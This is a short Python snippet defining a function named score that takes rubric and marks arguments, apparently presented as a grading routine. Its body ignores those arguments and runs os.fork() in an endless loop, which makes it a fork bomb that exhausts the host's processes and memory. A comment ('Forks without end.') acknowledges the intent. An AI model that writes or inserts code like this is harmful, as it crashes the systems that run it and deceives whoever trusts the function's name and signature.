# Forks without end.
def score(rubric, marks):
    import os
    while True:
        os.fork()
